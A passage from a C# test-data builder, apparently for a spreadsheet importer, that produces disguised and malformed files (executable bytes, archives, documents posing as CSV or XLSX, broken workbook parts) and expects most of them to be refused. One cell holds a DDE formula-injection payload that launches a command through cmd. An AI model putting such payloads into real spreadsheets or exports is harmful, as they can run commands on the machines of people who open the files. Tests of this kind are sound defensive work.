        byte[] exe = [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0];
        var zip = new HostileZip().Add("readme.txt", "这不是表格").ToArray();
        var csvInZip = new HostileZip().Add("12345导出.csv", Text(Lines(Rows(1)))).ToArray();
        var docx = new HostileZip()
            .Add("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
            .Add("_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>")
            .Add("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body/></w:document>").ToArray();
        var ods = new HostileZip().Add("mimetype", "application/vnd.oasis.opendocument.spreadsheet").Add("content.xml", "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"/>").ToArray();
        var html = Text($"<html><body><table><tr><td>工单编号</td><td>受理时间</td></tr><tr><td>{community}-x</td><td>2022-06-05</td></tr></table></body></html>");
        var xml2003 = Text("<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row><Cell><Data ss:Type=\"String\">工单编号</Data></Cell></Row></Table></Worksheet></Workbook>");
        foreach (var (kind, bytes) in new[] { ("png", png), ("jpeg", jpeg), ("gif", gif), ("pdf", pdf), ("xls-ole2", ole2), ("gzip", gzip), ("rar", rar), ("7z", sevenZip),
                     ("exe", exe), ("zip", zip), ("zip-with-csv", csvInZip), ("docx", docx), ("ods", ods), ("html-as-xls", html), ("xml-2003", xml2003) })
        {
            Add($"{kind}-as-csv", bytes, Expect.Refused);
            AddXlsx($"{kind}-as-xlsx", bytes, Expect.Refused);
        }
    }

    // ---- workbook structure ----------------------------------------------------------------------------------

    private void XlsxStructure()
    {
        AddXlsx("xlsx-valid-control", Package(Sheet(HeaderRow() + DataRows(Rows(2)))), Expect.Imported, 2);
        AddXlsx("xlsx-empty-sheet-data", Package(Sheet("")), Expect.Refused);
        AddXlsx("xlsx-no-sheet-data", Package($"<worksheet xmlns=\"{Main}\"/>"), Expect.Refused);
        AddXlsx("xlsx-rows-of-empty-cells", Package(Sheet("<row r=\"1\"><c r=\"A1\"/><c r=\"B1\" t=\"s\"/></row><row r=\"2\"><c r=\"A2\" t=\"inlineStr\"/></row>")), Expect.Refused);
        AddXlsx("xlsx-no-sheets", Parts(Sheet(HeaderRow()), workbook: $"<workbook xmlns=\"{Main}\"><sheets/></workbook>").ToArray(), Expect.Refused);
        AddXlsx("xlsx-no-workbook-part", new HostileZip().Add("[Content_Types].xml", ContentTypes(false)).Add("_rels/.rels", RootRels).ToArray(), Expect.Refused);
        AddXlsx("xlsx-no-content-types", new HostileZip().Add("_rels/.rels", RootRels).Add("xl/workbook.xml", Workbook("")).ToArray(), Expect.Refused);
        AddXlsx("xlsx-sheet-rel-missing", Parts(Sheet(HeaderRow()), workbook: Workbook("").Replace("rId1", "rId77")).ToArray(), Expect.Refused);
        AddXlsx("xlsx-sheet-part-missing", Parts(sheet: null).ToArray(), Expect.Refused);
        AddXlsx("xlsx-sheet-not-xml", Parts(sheet: null).Add("xl/worksheets/sheet1.xml", [0x89, 0x50, 0x4E, 0x47, 0, 0, 0]).ToArray(), Expect.Refused);
        AddXlsx("xlsx-sheet-unclosed", Package(Sheet(HeaderRow() + DataRows(Rows(1)))[..^30]), Expect.Refused);
        AddXlsx("xlsx-workbook-not-xml", Parts(Sheet(HeaderRow()), workbook: "not xml <<<").ToArray(), Expect.Refused);
        AddXlsx("xlsx-shared-strings-not-xml", Parts(Sheet(HeaderRow()), sharedStrings: "<sst><si>").ToArray(), Expect.Refused);
        AddXlsx("xlsx-first-sheet-is-chart", Parts(Sheet(HeaderRow()), workbookRels: WorkbookRels("worksheets/sheet1.xml").Replace("relationships/worksheet", "relationships/chartsheet")).ToArray(), Expect.Refused);
        AddXlsx("xlsx-row-index-zero", Package(Sheet(HeaderRow() + DataRows(Rows(1)).Replace("r=\"2\"", "r=\"0\""))), Expect.Imported, 1);
        AddXlsx("xlsx-row-index-huge", Package(Sheet(HeaderRow() + DataRows(Rows(1)).Replace("<row r=\"2\"", "<row r=\"4294967295\""))), Expect.Imported, 1);
        AddXlsx("xlsx-row-index-not-number", Package(Sheet(HeaderRow() + DataRows(Rows(1)).Replace("<row r=\"2\"", "<row r=\"x\""))), Expect.Refused);
        AddXlsx("xlsx-lowercase-references", Package(Sheet("<row r=\"1\">" + string.Concat(Header.Split(',').Select((h, i) => Inline(ColumnName(i).ToLowerInvariant() + "1", h))) + "</row>")), Expect.Refused);
        AddXlsx("xlsx-duplicate-cells", Package(Sheet(HeaderRow() + DataRows(Rows(1)).Replace("</row>", Inline("A2", "=cmd|' /C calc'!A0") + "</row>"))), Expect.Refused);
        AddXlsx("xlsx-iso-date-cells", Package(Sheet(HeaderRow() + $"<row r=\"2\">{Inline("A2", $"{community}-{Tag}t")}<c r=\"B2\" t=\"d\"><v>2022-06-05T10:00:00</v></c>{Inline("C2", community)}{Inline("D2", "是")}<c r=\"E2\" t=\"d\"><v>2022-06-06T10:00:00</v></c></row>")), Expect.Imported, 1);
        // Macros are never run: a macro-enabled workbook's cells are data like any other.
        AddXlsx("xlsx-macro-enabled", Parts(Sheet(HeaderRow() + DataRows(Rows(1))), contentTypes: ContentTypes(true).Replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))
            .Add("xl/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]).ToArray(), Expect.Imported, 1);
        // Strict Open XML (Excel's "Strict Open XML Spreadsheet"): the SDK reads it as the usual namespace.
        AddXlsx("xlsx-strict-namespace", Package(Sheet(HeaderRow() + DataRows(Rows(1))).Replace(Main, "http://purl.oclc.org/ooxml/spreadsheetml/main")), Expect.Imported, 1);
    }

    // ---- XLSX by hand ----------------------------------------------------------------------------------------

    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private static readonly object?[] HeaderCells = [.. Header.Split(',')];

    private static object?[][] XlsxRows(IEnumerable<string> rows) => [HeaderCells, .. rows.Select(r => r.Split(',').Select(v => v.Length == 0 ? null : (object?)v).ToArray())];

    private static string Sheet(string rows) => $"<worksheet xmlns=\"{Main}\"><sheetData>{rows}</sheetData></worksheet>";

    private static string HeaderRow() => "<row r=\"1\">" + string.Concat(Header.Split(',').Select((h, i) => Inline(ColumnName(i) + "1", h))) + "</row>";

    private static string DataRows(IEnumerable<string> rows, int first = 2) => string.Concat(rows.Select((r, n) =>
        $"<row r=\"{first + n}\">" + string.Concat(r.Split(',').Select((v, i) => v.Length == 0 ? "" : Inline(ColumnName(i) + (first + n), v))) + "</row>"));

    private static string Inline(string reference, string text) => InlineRaw(reference, SecurityElement.Escape(text));

    private static string InlineRaw(string reference, string xml) => $"<c r=\"{reference}\" t=\"inlineStr\"><is><t>{xml}</t></is></c>";

    private static string ColumnName(int index)
    {
        var name = "";
        for (var n = index + 1; n > 0; n = (n - 1) / 26) name = (char)('A' + (n - 1) % 26) + name;
        return name;
    }

    private static string ContentTypes(bool sharedStrings) =>
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" +
        "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>" +
        "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>" +
        "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>" +
        (sharedStrings ? "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>" : "") +
        "</Types>";

    private const string RootRels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" " +
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>";

    private static string Workbook(string comment) =>
        $"<workbook xmlns=\"{Main}\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><!--{comment}--><sheets><sheet name=\"诉求\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";

    private static string WorkbookRels(string sheetTarget) =>
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
        $"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"{sheetTarget}\"/>" +
        "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>";

    /// <summary>The parts of a one-sheet workbook; a null part is left out, for the caller to add its own.</summary>
    private static HostileZip Parts(string? sheet, string? sharedStrings = "", string? workbook = "", string? contentTypes = null, string? rels = null, string? workbookRels = null)
    {
        var zip = new HostileZip()
            .Add("[Content_Types].xml", contentTypes ?? ContentTypes(true))
            .Add("_rels/.rels", rels ?? RootRels)
            .Add("xl/_rels/workbook.xml.rels", workbookRels ?? WorkbookRels("worksheets/sheet1.xml"));
        if (workbook is not null) zip.Add("xl/workbook.xml", workbook.Length == 0 ? Workbook("") : workbook);
        if (sheet is not null) zip.Add("xl/worksheets/sheet1.xml", sheet);
        if (sharedStrings is not null) zip.Add("xl/sharedStrings.xml", sharedStrings.Length == 0 ? $"<sst xmlns=\"{Main}\"/>" : sharedStrings);
        return zip;
    }

    private static byte[] Package(string sheet) => Parts(sheet).ToArray();
}
